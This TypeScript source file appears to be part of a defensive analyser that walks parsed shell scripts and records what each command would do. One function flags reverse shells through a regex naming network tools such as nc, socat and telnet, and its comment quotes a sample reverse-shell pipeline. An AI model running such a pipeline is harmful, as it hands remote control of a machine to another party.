import type {
  AndOr,
  ArithmeticFor,
  CommandNode,
  CompoundList,
  ParsedScript,
  Pipeline,
  Redirected,
  Statement,
} from 'unbash';
import type { FlowEnd, Operation, Word } from '../../domain/operation.ts';
import type { CallPlace } from '../../domain/tool-call.ts';
import { LimitReached } from '../limits.ts';
import type { Recorder } from '../recorder.ts';
import { dynamicValue, noTaints, staticText, taintsOf, unite, type Value } from '../value.ts';
import { planCommand } from './command.ts';
import { begun, type Frame, type Input, type Printed, pipedFrom, type ShellPlanner } from './context.ts';
import { showsHarmlessVariables } from './environment-shown.ts';
import { forgetArithmetic, forgetChanges } from './forget.ts';
import { walkTree } from './guard.ts';
import type { ShellParser } from './parser.ts';
import { planRedirects, sendOutput } from './redirects.ts';
import { pathElsewhere } from './remote.ts';
import { settleDirectory } from './settle.ts';
import { planSimple } from './simple.ts';
import { assign, disturb, fork, initialState, join, type ShellState, type Variable } from './state.ts';
import { planText, withoutSpan } from './text.ts';
import { forEachScript, type RunNested, resolveSingle, resolveWord } from './words.ts';

/** A planner of shell text that reports to a recorder. */
export const createShellPlanner = (recorder: Recorder, parser: ShellParser): ShellPlanner => {
  const planner: ShellPlanner = {
    recorder,
    definitions: new Map(),
    traps: [],
    assigned: new Map(),
    moves: true,
    command: (words, frame) => {
      recorder.work(words.length);
      return planCommand(planner, words, frame);
    },
    text: (source, frame) => planText(planner, parser, source, frame),
    script: (script, frame) => planScript(planner, script, frame),
    body: (definition, frame) => {
      planner.definitions.set(definition, true);
      return definition.body.type === 'CompoundList'
        ? planList(planner, definition.body, frame)
        : planNode(planner, definition.body, frame);
    },
    add: (frame, draft) =>
      recorder.add({
        via: [...frame.via],
        privilege: frame.privilege,
        background: frame.background,
        ...(frame.parent === undefined ? {} : { parent: frame.parent }),
        ...(frame.span === undefined ? {} : { span: frame.span }),
        ...draft,
        ...(frame.remote === undefined ? {} : elsewhere(frame.remote, draft.paths ?? [])),
      }),
  };
  return planner;
};

const elsewhere = (remote: string, paths: Operation['paths']): Pick<Operation, 'remote' | 'paths'> => ({
  remote,
  paths: paths.map((path) => pathElsewhere(path, remote)),
});

/** The frame of a call's own command. */
export const initialFrame = (place: CallPlace, background: boolean): Frame => ({
  state: initialState(place),
  via: [],
  privilege: false,
  background,
  depth: 0,
  input: { type: 'none', taints: noTaints },
  env: [],
  ownPath: false,
  span: [0, 0],
  inside: new Set(),
});

const planScript = (planner: ShellPlanner, script: ParsedScript, frame: Frame): ReadonlySet<FlowEnd> => {
  if (frame.depth > planner.recorder.limits.maxDepth) {
    throw new LimitReached(`nested deeper than ${planner.recorder.limits.maxDepth}`);
  }
  // Offsets of a script with a text of its own are not offsets of the command.
  const inner = script.source === undefined ? frame : withoutSpan(frame);
  return planStatements(planner, script.commands, inner);
};

const planStatements = (
  planner: ShellPlanner,
  statements: readonly Statement[],
  frame: Frame,
): ReadonlySet<FlowEnd> => {
  const outputs: ReadonlySet<FlowEnd>[] = [];
  for (const [index, statement] of statements.entries()) {
    const background = statement.background === true;
    const later = index === 0 ? frame : after(frame);
    const inner = background ? { ...later, background: true, state: fork(frame.state) } : later;
    outputs.push(planNode(planner, statement.command, inner));
  }
  return unite(...outputs);
};

const planList = (planner: ShellPlanner, list: CompoundList, frame: Frame): ReadonlySet<FlowEnd> =>
  planStatements(planner, list.commands, frame);

/** Behind a command that may have read some of the input. */
const after = (frame: Frame): Frame =>
  frame.input.fresh === true ? { ...frame, input: begun(frame.input) } : frame;

const deeper = (frame: Frame): Frame => ({ ...frame, depth: frame.depth + 1, printed: undefined });

const planNode = (
  planner: ShellPlanner,
  node: Statement['command'] | CommandNode,
  outer: Frame,
): ReadonlySet<FlowEnd> => {
  const frame =
    outer.span === undefined ? outer : { ...outer, span: [node.pos, node.end] as [number, number] };
  const { state } = frame;
  planner.recorder.work(1);
  if (frame.depth > planner.recorder.limits.maxDepth) {
    throw new LimitReached(`nested deeper than ${planner.recorder.limits.maxDepth}`);
  }
  const nested = runNested(planner, frame);
  switch (node.type) {
    case 'Command':
      return planSimple(planner, node, frame, nested);
    case 'AndOr':
      return planAndOr(planner, node, frame);
    case 'Pipeline':
      return planPipeline(planner, node, frame);
    case 'Redirected':
      return planRedirected(planner, node, frame, nested);
    case 'Subshell':
      return planList(planner, node.body, { ...deeper(frame), state: fork(state) });
    case 'BraceGroup':
      return planList(planner, node.body, deeper(frame));
    case 'If': {
      const clause = planList(planner, node.clause, deeper(frame));
      const ends: ShellState[] = [];
      const branch = (list: CompoundList): ReadonlySet<FlowEnd> => {
        const end = fork(state);
        ends.push(end);
        return planList(planner, list, { ...deeper(after(frame)), state: end });
      };
      const outputs = [clause, branch(node.then)];
      for (const elif of node.elif) {
        outputs.push(planList(planner, elif.clause, deeper(after(frame))), branch(elif.then));
      }
      if (node.else !== undefined) outputs.push(branch(node.else));
      for (const end of ends) join(state, end);
      return unite(...outputs);
    }
    case 'For':
    case 'Select': {
      // `for f; do` goes through the arguments.
      const words =
        node.wordlist === undefined
          ? (state.positional ?? [dynamicValue('$@')])
          : node.wordlist.flatMap((word) => resolveWord(word, state, nested));
      const once = node.type === 'For';
      return planLoop(planner, node.body, frame, { name: node.name.text, words, once });
    }
    case 'ArithmeticFor':
      forgetArithmetic(node.initialize ?? node, state);
      startCounters(node, state);
      runScriptsIn([node.initialize, node.test, node.update], nested);
      return planLoop(planner, node.body, frame);
    case 'While': {
      forgetChanges(node, state);
      const clause = planList(planner, node.clause, deeper(after(frame)));
      const variable = node.kind === 'while' ? readVariable(node.clause) : undefined;
      const lines = variable === undefined ? undefined : inputLines(frame.input);
      if (variable === undefined || lines === undefined)
        return unite(clause, planLoop(planner, node.body, frame));
      const words = lines.map((word) => ({ word, taints: frame.input.taints }));
      return unite(clause, planLoop(planner, node.body, frame, { name: variable, words }));
    }
    case 'Case': {
      const subject = resolveSingle(node.word, state, nested);
      const outputs = [subject.taints];
      // `;&` falls through: what one branch changed may hold in each later one.
      const reached = fork(state);
      for (const item of node.items) {
        planner.recorder.work(1);
        for (const pattern of item.pattern) resolveSingle(pattern, state, nested);
        const end = fork(reached);
        outputs.push(planList(planner, item.body, { ...deeper(after(frame)), state: end }));
        join(reached, end);
      }
      join(state, reached);
      return unite(...outputs);
    }
    case 'Function': {
      const name = node.name.value;
      if (staticText(resolveSingle(node.name, state, nested)) === undefined) disturb(state);
      if (!planner.definitions.has(node)) planner.definitions.set(node, false);
      const bodies = state.functions.get(name) ?? [];
      if (!bodies.includes(node)) state.functions.set(name, [...bodies, node]);
      state.defined.add(name);
      state.shadowed.add(name);
      return noTaints;
    }
    case 'Coproc': {
      const inner = { ...deeper(frame), state: fork(state), background: true };
      const output =
        node.body.type === 'CompoundList'
          ? planList(planner, node.body, inner)
          : planNode(planner, node.body, inner);
      // Its output is read through the descriptors in this array.
      assign(state, node.name?.text ?? 'COPROC', { taints: output });
      return output;
    }
    case 'TestCommand':
    case 'ArithmeticCommand': {
      let taints: ReadonlySet<FlowEnd> = noTaints;
      forEachScript(node, (script) => {
        taints = unite(taints, nested(script));
      });
      if (node.type === 'ArithmeticCommand') forgetArithmetic(node, state);
      planner.add(frame, {
        kind: 'exec',
        program: { name: node.type === 'TestCommand' ? '[[' : '((', trusted: true },
        traits: ['read-only'],
        text: node.type === 'TestCommand' ? '[[ … ]]' : '(( … ))',
      });
      return taints;
    }
    default: {
      const never: never = node;
      throw new Error(`unknown syntax ${JSON.stringify(never)}`);
    }
  }
};

/** Scripts inside words run in a shell of their own. */
const runNested =
  (planner: ShellPlanner, frame: Frame): RunNested =>
  (script, printed) =>
    planner.script(script, {
      ...deeper(after(frame)),
      state: fork(frame.state),
      env: [],
      ownPath: false,
      printed: isOneCommand(script) ? printed : undefined,
    });

/** Only what one command or one pipeline prints is the output of a script. */
const isOneCommand = (script: ParsedScript): boolean => {
  const [statement] = script.commands;
  const type = statement?.command.type;
  return (
    script.commands.length === 1 &&
    statement?.background !== true &&
    (type === 'Command' || type === 'Pipeline')
  );
};

/** `for ((i = 0; …))`: whatever arithmetic leaves in a name is a number. */
const startCounters = ({ initialize }: ArithmeticFor, state: ShellState): void => {
  const one =
    initialize?.type === 'ArithmeticBinary' && initialize.operator === '=' ? initialize.left : undefined;
  if (one?.type === 'ArithmeticWord' && /^[A-Za-z_]\w*$/.test(one.value))
    assign(state, one.value, { taints: noTaints, number: true });
};

const runScriptsIn = (
  nodes: readonly (Parameters<typeof forEachScript>[0] | undefined)[],
  nested: RunNested,
): void => {
  for (const node of nodes) if (node !== undefined) forEachScript(node, nested);
};

const planAndOr = (planner: ShellPlanner, node: AndOr, frame: Frame): ReadonlySet<FlowEnd> => {
  const { state } = frame;
  const outputs: ReadonlySet<FlowEnd>[] = [];
  /** Every state in which the chain may have been left before its end. */
  let left: ShellState | undefined;
  node.commands.forEach((command, index) => {
    const operator = node.operators[index - 1];
    if (operator !== undefined) {
      if (left === undefined) left = fork(state);
      else join(left, state);
      if (operator === '||') join(state, left);
    }
    outputs.push(planNode(planner, command, index === 0 ? frame : after(frame)));
    if (node.operators[index] === '&&') settleDirectory(planner, command, frame);
  });
  if (left !== undefined) join(state, left);
  return unite(...outputs);
};

const planPipeline = (planner: ShellPlanner, node: Pipeline, frame: Frame): ReadonlySet<FlowEnd> => {
  let input = frame.input;
  let output: ReadonlySet<FlowEnd> = noTaints;
  const several = node.commands.length > 1;
  if (several && connectsShell(node.commands)) {
    planner.add(frame, {
      kind: 'exec',
      program: { name: '', trusted: false },
      traits: ['net-shell'],
      text: 'a shell that answers to the network',
    });
  }
  const harmless = showsHarmlessVariables(node.commands);
  const before = planner.recorder.operations.length;
  node.commands.forEach((command, index) => {
    const last = index === node.commands.length - 1;
    const state = several ? fork(frame.state) : frame.state;
    const printed: Printed | undefined = command.type === 'Command' ? (last ? frame.printed : {}) : undefined;
    output = planNode(planner, command, { ...frame, input, state, printed });
    const shown = index === 0 && harmless ? planner.recorder.operations[before] : undefined;
    if (shown !== undefined) shown.traits = ['read-only'];
    input = pipedFrom(printed, output);
    // zsh, and bash with lastpipe, run the last one in this very shell.
    if (several && last) join(frame.state, state);
  });
  return output;
};

const connects = /^(.*\/)?(nc|ncat|netcat|nc\.\w+|telnet|socat|websocat|cryptcat|busybox|openssl)$/;
const shell = /^(.*\/)?(ba|z|da|k|a|c|tc|fi|mk)?sh$/;

/**
 * A shell without a script of its own whose output goes to a program that connects: `cat fifo | sh -i 2>&1 | nc host port`
 * is a reverse shell, whatever feeds it (ATT&CK T1059.004).
 */
const connectsShell = (commands: Pipeline['commands']): boolean => {
  const names = commands.map((command) => {
    if (command.type !== 'Command') return undefined;
    const words = [
      command.name?.value ?? '',
      ...command.args.map((arg) => (arg.type === 'Word' ? arg.value : '=')),
    ];
    return words.slice(
      words.findIndex((word) => !/^(exec|command|env|nohup|setsid|stdbuf|-\w+)$/.test(word)),
    );
  });
  const at = names.findIndex(
    (words) =>
      shell.test(words?.[0] ?? '') &&
      words?.slice(1).every((word) => /^-[il]+$|^--norc$|^--noprofile$/.test(word)) === true,
  );
  return (
    at >= 0 &&
    names.slice(at + 1).some((words) => connects.test(words?.[0] ?? '') && (words?.length ?? 0) > 1)
  );
};

const planRedirected = (
  planner: ShellPlanner,
  node: Redirected,
  frame: Frame,
  nested: RunNested,
): ReadonlySet<FlowEnd> => {
  const redirected = planRedirects(planner, node.redirects, frame, nested);
  const output = planNode(planner, node.command, {
    ...frame,
    ...(redirected.input === undefined ? {} : { input: redirected.input }),
  });
  const carried = unite(output, redirected.taints);
  sendOutput(planner, redirected, carried, { frame });
  return carried;
};

const allNumbers = (words: readonly Value[]): boolean =>
  words.length > 0 && words.every((word) => word.number === true || /^\d+$/.test(staticText(word) ?? ''));

const maxUnrolled = 16;

/** What each line of an input is one of. */
const inputLines = (input: Input): readonly Word[] | undefined => {
  if (input.lines !== undefined || input.type !== 'text' || input.text === undefined) return input.lines;
  if (input.text.includes('\0')) return undefined;
  const lines = input.text.replace(/\n$/, '').split('\n');
  if (lines.length > maxUnrolled || input.text.includes('\\')) return undefined;
  return lines.map((line) => ({ type: 'static', value: line.trim() }));
};

/** The one variable of `while read -r x`. */
const readVariable = (clause: CompoundList): string | undefined => {
  const [statement] = clause.commands;
  const node = statement?.command;
  if (clause.commands.length !== 1 || node?.type !== 'Command' || node.name?.text !== 'read')
    return undefined;
  if (node.redirects.length > 0) return undefined;
  const words = node.args.map((arg) => arg.text);
  const names = words.filter(
    (word, index) => !/^-(r|d|s|rd|sr|rs)$|^(''|"")$/.test(word) || index === words.length - 1,
  );
  const [name] = names;
  return names.length === 1 && name !== undefined && /^[A-Za-z_]\w*$/.test(name) ? name : undefined;
};

/** A loop over few certain words is planned for each of them, any other once with what it changes forgotten. */
const planLoop = (
  planner: ShellPlanner,
  body: CompoundList,
  outer: Frame,
  variable?: { name: string; words: readonly Value[]; once?: boolean },
): ReadonlySet<FlowEnd> => {
  const frame = after(outer);
  const { state } = frame;
  const words = variable?.words ?? [];
  const outputs: ReadonlySet<FlowEnd>[] = [];
  if (variable?.once === true && runsThrough(words, body) && !state.variables.get(variable.name)?.refers) {
    // Every round begins where the one before it ended, and none is left early.
    for (const value of words) {
      assign(state, variable.name, { word: value.word, taints: value.taints });
      outputs.push(planList(planner, body, deeper(frame)));
    }
    return unite(...outputs, taintsOf(words));
  }
  const before = fork(state);
  forgetChanges(body, state);
  const unroll =
    words.length > 0 && words.length <= maxUnrolled && words.every((word) => word.word.type !== 'dynamic');
  if (variable !== undefined && unroll) {
    for (const value of words) {
      name(state, variable.name, { word: value.word, taints: value.taints });
      outputs.push(planList(planner, body, deeper(frame)));
      forgetChanges(body, state);
    }
  } else {
    if (variable !== undefined)
      name(state, variable.name, { taints: taintsOf(words), number: allNumbers(words) });
    outputs.push(planList(planner, body, deeper(frame)));
  }
  if (variable !== undefined) name(state, variable.name, { taints: taintsOf(words), number: false });
  join(state, before);
  return unite(...outputs, taintsOf(words));
};

/** Gives the variable of a loop its value. Of one that refers to another, `for` changes what it refers to. */
const name = (state: ShellState, variable: string, value: Variable): void => {
  if (state.variables.get(variable)?.refers !== undefined) disturb(state);
  assign(state, variable, value);
};

const jumps = /^(break|continue|return|exit|exec|eval|source|\.|set)$/;

/** Whether each word makes exactly one round of a loop, whatever is done in it. */
const runsThrough = (words: readonly Value[], body: CompoundList): boolean => {
  if (words.length === 0 || words.length > maxUnrolled) return false;
  if (words.some((word) => word.word.type !== 'static')) return false;
  return !mayJump(body);
};

/** Of each body that was looked at. */
const jumping = new WeakMap<CompoundList, boolean>();

const mayJump = (body: CompoundList): boolean => {
  const known = jumping.get(body);
  if (known !== undefined) return known;
  let found = false;
  walkTree(body, (part) => {
    if (part.type === 'Word' && jumps.test(part.value)) found = true;
  });
  jumping.set(body, found);
  return found;
};
